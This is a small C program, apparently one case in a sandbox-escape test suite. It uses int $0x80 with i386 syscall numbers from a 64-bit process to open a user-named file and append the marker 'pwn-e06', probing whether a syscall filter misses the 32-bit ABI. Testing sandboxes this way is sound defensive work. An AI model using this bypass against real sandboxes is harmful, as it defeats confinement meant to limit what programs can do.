/* E06: the i386 ABI from a 64-bit process: int $0x80 with i386 numbers
 * (5 = open) on a path below 4 GiB. */
#include "esc.h"
#include <sys/mman.h>

int main(int argc, char **argv)
{
	esc_usage(argc, 2, "e06_int80 FILE");
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (p == MAP_FAILED)
		return 2;
	snprintf(p, 2048, "%s", argv[1]);
	strcpy(p + 2048, "pwn-e06\n");
	long r;
	fflush(stdout);
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(5L), "b"((long)p), "c"((long)(O_WRONLY | O_APPEND)) : "memory");
	printf("int80 open -> %ld\n", r);
	if (r < 0)
		return 1;
	long w;
	__asm__ volatile("int $0x80" : "=a"(w) : "a"(4L), "b"(r), "c"((long)(p + 2048)), "d"(8L) : "memory");
	printf("int80 write -> %ld\n", w);
	return 0;
}
